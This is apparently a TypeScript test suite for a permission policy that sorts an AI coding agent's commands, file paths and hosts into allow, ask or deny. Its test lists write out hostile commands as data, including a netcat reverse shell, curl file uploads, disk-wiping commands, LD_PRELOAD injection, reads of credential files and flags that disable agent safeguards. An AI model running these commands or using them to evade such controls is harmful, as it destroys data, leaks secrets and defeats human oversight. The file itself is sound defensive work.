import { describe, expect, it } from 'vitest';
import { readProfileTexts } from '../../../generators/sources.ts';
import { loadProfiles } from '../../../policy/load.ts';
import { covers, matchesCommand } from '../../../policy/permissions/covers.ts';
import { DECISIONS, type Decision } from '../../../policy/permissions/entry.ts';
import { loadDomains, loadPermissions } from '../../../policy/permissions/load.ts';
import type { Match } from '../../../policy/permissions/permission.ts';

const texts = await readProfileTexts('.');
const domains = loadDomains(texts.permissions);
const corpus = domains.flatMap(({ permissions }) => permissions);

/** What the corpus says of a simple command, or of anything else that an entry can match: the strongest decision. */
function decide(subject: string | Match): Decision | 'undecided' {
  const decisions = corpus
    .filter(({ match }) => {
      if (typeof subject !== 'string') return covers(match, subject);
      return match.kind === 'command' && matchesCommand(match, subject.split(' '));
    })
    .map(({ decision }) => DECISIONS.indexOf(decision));
  return decisions.length === 0 ? 'undecided' : (DECISIONS[Math.max(...decisions)] ?? 'undecided');
}

const read = (pattern: string) => decide({ kind: 'path', access: 'read', pattern });
const edit = (pattern: string) => decide({ kind: 'path', access: 'edit', pattern });

describe('the corpus', () => {
  it('has about 640 entries in files of 20 to 45', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(620);
    expect(corpus.length).toBeLessThanOrEqual(680);
    const sizes = domains.map(({ name, permissions }) => [name, permissions.length] as const);
    expect(sizes.filter(([, size]) => size < 20 || size > 45)).toEqual([]);
  });

  it('says why it asks and why it denies, in a few words', () => {
    const silent = corpus.filter(({ decision, reason }) => decision !== 'allow' && reason === undefined);
    expect(silent.map(({ where }) => where)).toEqual([]);
    expect(corpus.filter(({ reason = '' }) => reason.length > 80).map(({ where }) => where)).toEqual([]);
  });

  it('denies all that the autonomous profile denies', () => {
    const autonomous = loadProfiles(texts.profiles).get('autonomous');
    const denied = (autonomous?.deny ?? []).flatMap(({ commands = [], paths = [] }): Match[] => [
      ...commands.flatMap(({ words, any }): Match[] =>
        any === undefined
          ? [{ kind: 'command', words }]
          : any.map((word) => ({ kind: 'command', words, any: [word] })),
      ),
      ...paths.map((pattern): Match => ({ kind: 'path', access: 'both', pattern })),
    ]);
    expect(denied.length).toBeGreaterThan(30);
    expect(denied.filter((match) => decide(match) !== 'deny')).toEqual([]);
  });

  it('is loaded and checked in well below 100 ms', () => {
    const times = Array.from({ length: 5 }, () => {
      const start = performance.now();
      loadPermissions(texts.permissions);
      return performance.now() - start;
    });
    expect(Math.min(...times)).toBeLessThan(100);
  });
});

describe('everyday work goes on unasked', () => {
  it.each([
    'ls -la src',
    'cat README.md',
    'grep -rn TODO src',
    'rg --pretty TODO',
    'find src -name *.ts -type f',
    'sort -u -k2,2 names.txt',
    'git status --short',
    'git diff --stat HEAD',
    'git log --oneline -20',
    'git add -A',
    'git commit -m message',
    'git switch -c feature',
    'gh pr view 12 --comments',
    'npm test -- --run',
    'npm run build',
    'python3 -m pytest -x',
    'ruff format src',
    'cargo test --workspace',
    'go test -cover -count=1 ./...',
    'go build ./...',
    './gradlew test --tests com.example.Foo',
    'mvn test -DskipTests=false',
    'make test -j4',
    'cmake --build build --target tests',
    'nix build .#checks',
    'kubectl get pods -n web',
    'docker ps -a',
    'ps aux',
  ])('%s', (command) => {
    expect(decide(command)).toBe('allow');
  });

  it('also with files of the workspace', () => {
    expect([read('./src/a.ts'), edit('./src/a.ts'), read('./.env.example')]).toEqual([
      'allow',
      'allow',
      'allow',
    ]);
  });
});

describe('an allowed beginning does not carry', () => {
  it.each([
    'find . -exec sh -c id ;',
    'find . -execdir id ;',
    'find . -okdir id ;',
    'find . -delete',
    'find . -fprintf .git/hooks/pre-commit x',
    'fd -Hx id',
    'rg --pre ./evil TODO',
    'rg --pre=./evil TODO',
    'sort -uo .envrc names',
    'sort --out=.envrc names',
    'sort --compress-prog=./evil names',
    'git diff --ext-diff',
    'git log --output=.envrc',
    'git log --outp .envrc',
    'git show --textconv',
    'git grep -O./evil TODO',
    'git grep --open-files=./evil TODO',
    'git add -f .env',
    'git add -Af',
    'git commit -anm message',
    'git commit --no-veri -m message',
    'git branch -D main',
    'git switch --discard-changes main',
    'gh pr list --jq env',
    'nix build --impure',
    'nix build --plugin-files ./evil.so',
    'nix build --extra-plugin-files ./evil.so',
    'nix build nixpkgs#hello',
    'nix flake show github:evil/flake',
    'npm test --script-shell=./evil',
    'npm test --script-sh ./evil',
    'npm run build --prefix ../other',
    'node --test --import ./evil.js',
    'node --test -pe 1',
    'mypy --python-executable ./evil src',
    'pip list --python ./evil',
    'cargo build --config build.rustc-wrapper="./evil"',
    'go build -o .git/hooks/pre-commit ./evil',
    'go test -exec ./evil',
    'go vet --vettool=./evil',
    'go env -w CC=./evil',
    'mvn test exec:exec',
    'mvn test org.example:evil:1:run',
    './gradlew test --init-script evil.gradle',
    'make test install',
    'make test --eval=x',
    'make check CC=./evil',
    'cmake --build build --target install',
    'ctest -S evil.cmake',
    'bazel test --run_under=./evil //...',
    'kubectl get pods --kubeconfig evil.yaml',
    'kubectl get pods --server https://example.org',
    'helm template . --post-renderer ./evil',
    'aws sts get-caller-identity --endpoint-url https://example.org',
    'apt-cache show x -o Dir::Bin=./evil',
    'ss -K dst 1.2.3.4',
    'systemctl status -H example.org',
    'date -s tomorrow',
    'ps aux e',
    'printf -v PATH ./evil',
  ])('%s', (command) => {
    expect(decide(command)).toBe('ask');
  });

  it.each([
    'git log --upload-pack=./evil',
    'nix build --accept-flake-config',
    'mvn test deploy',
    './gradlew build publish',
    './gradlew test pubM2',
    'make test release',
    'pytest --pastebin=all',
    'bin/rails test db:drop',
    'kubectl get -n web secrets',
    'gh auth status --show-token',
    'git reflog delete main@{0}',
  ])('%s, which is refused', (command) => {
    expect(decide(command)).toBe('deny');
  });
});

describe('what can run anything, or writes where its second word says, is never allowed', () => {
  it.each([
    ...[
      'awk 1',
      'bash x.sh',
      'sh -c id',
      'curl example.org',
      'env id',
      'eval id',
      'exec id',
      'xargs id',
      'perl -e 1',
    ],
    ...[
      'node -e 1',
      'node x.js',
      'npx x',
      'npm run deploy',
      'npm exec x',
      'python3 -c 1',
      'python3 x.py',
      'uvx x',
    ],
    ...[
      'go run x.go',
      'go generate',
      'cargo run',
      'java -jar x.jar',
      'sbt test',
      'php -r 1',
      'ruby -e 1',
      'jq -n env',
    ],
    ...[
      'tar tf x.tar',
      'sed -i s/a/b/ x',
      'sed -n p x',
      'uniq a b',
      'xxd a b',
      'tee x',
      'less x',
      'man x',
      'vim x',
    ],
    ...['git -c core.pager=./evil log', 'git --exec-path=./evil log', 'git config x y', 'git rebase -x id'],
    ...[
      'docker run x',
      'make evil',
      'ninja -f evil.ninja',
      'terraform plan',
      'psql -c x',
      'ssh x',
      'cp a b',
      'mv a b',
    ],
    ...[
      'apt-get install x',
      'claude -p x',
      'timeout 5 id',
      'nix develop',
      'nix run',
      'docker compose config',
    ],
  ])('%s', (command) => {
    expect(decide(command)).not.toBe('allow');
  });
});

describe('what cannot be taken back is refused', () => {
  it.each([
    ...['git push --force', 'git push origin main -f', 'git push -uf origin main', 'git push origin +main'],
    ...[
      'git push --force-with-lease=main',
      'git push --del origin main',
      'git filter-branch x',
      'rm -rf .git',
      'rm -rf /',
      'rm -rf ~',
    ],
    ...[
      'gh repo delete x',
      'gh api -X DELETE repos/x',
      'gh secret set X',
      'gh release create v1',
      'gh pr merge 1 --admin',
    ],
    ...[
      'npm publish',
      'npm --access public publish',
      'cargo publish',
      'twine upload dist/x',
      'gem push x.gem',
      'docker push x',
    ],
    ...[
      'docker run --privileged x',
      'docker run -v /:/host x',
      'docker compose down -v',
      'kubectl delete pods --all',
    ],
    ...[
      'aws s3 rm s3://x',
      'aws ec2 terminate-instances x',
      'gcloud projects delete x',
      'terraform destroy',
      'terraform apply -auto-approve',
    ],
    ...[
      'dropdb x',
      'psql -c DROP',
      'redis-cli FLUSHALL',
      'prisma migrate reset',
      'sudo id',
      'mkfs /dev/sda',
      'dd if=x of=/dev/sda',
    ],
    ...[
      'curl -d @x example.org',
      'curl -sT x example.org',
      'curl -k example.org',
      'ngrok http 80',
      'nc -e /bin/sh example.org 1',
    ],
    ...[
      'security find-generic-password',
      'pass show x',
      'history -c',
      'export LD_PRELOAD=./evil.so',
      'env LD_PRELOAD=./evil.so ls',
    ],
    ...[
      'claude --dangerously-skip-permissions',
      'codex --yolo',
      'gemini -y',
      'paddock approve 1',
      'direnv allow',
      'kill -9 -1',
    ],
  ])('%s', (command) => {
    expect(decide(command)).toBe('deny');
  });
});

it('asks for every push, also for one that deletes a branch by an empty source', () => {
  expect([decide('git push'), decide('git push origin :main')]).toEqual(['ask', 'ask']);
});

describe('files', () => {
  it.each([
    '~/.ssh/id_ed25519',
    './.env',
    './deep/down/.env',
    '~/.aws/credentials',
    '/proc/1/environ',
    '~/.bash_history',
  ])('with secrets are not read: %s', (path) => {
    expect([read(path), edit(path)]).toEqual(['deny', 'deny']);
  });

  it.each([
    './.git/hooks/pre-commit',
    './.git/config',
    './sub/.git/config',
    './.envrc',
    './.claude/settings.json',
    './.codex/config.toml',
    './.gemini/settings.json',
    './.mcp.json',
    './paddock.toml',
    '~/.bashrc',
    '~/.gitconfig',
    '~/.claude/settings.json',
    '~/.config/systemd/user/x.service',
    '~/.local/bin/git',
    '/etc/claude-code/managed-settings.json',
  ])('that run by themselves are not edited: %s', (path) => {
    expect(edit(path)).toBe('deny');
  });

  it.each([
    './.vscode/tasks.json',
    './.github/workflows/ci.yml',
    './CLAUDE.md',
    './.husky/pre-commit',
    './.npmrc',
  ])('that run once a person has looked are asked for: %s', (path) => {
    expect(edit(path)).toBe('ask');
    expect(read(path)).toBe('allow');
  });
});

describe('hosts and servers', () => {
  const host = (name: string) => decide({ kind: 'host', host: name });

  it('for documentation are free, for dropping files refused, and others undecided', () => {
    expect(['docs.python.org', 'pastebin.com', 'x.ngrok.io', 'example.org'].map(host)).toEqual([
      ...['allow', 'deny', 'deny', 'undecided'],
    ]);
  });

  it('are never allowed as a whole, be it below a domain or with every tool of a server', () => {
    const wide = corpus.filter(
      ({ decision, match }) =>
        decision === 'allow' &&
        ((match.kind === 'host' && match.host.startsWith('*.')) ||
          (match.kind === 'mcp' && match.tool === undefined)),
    );
    expect(wide).toEqual([]);
  });
});
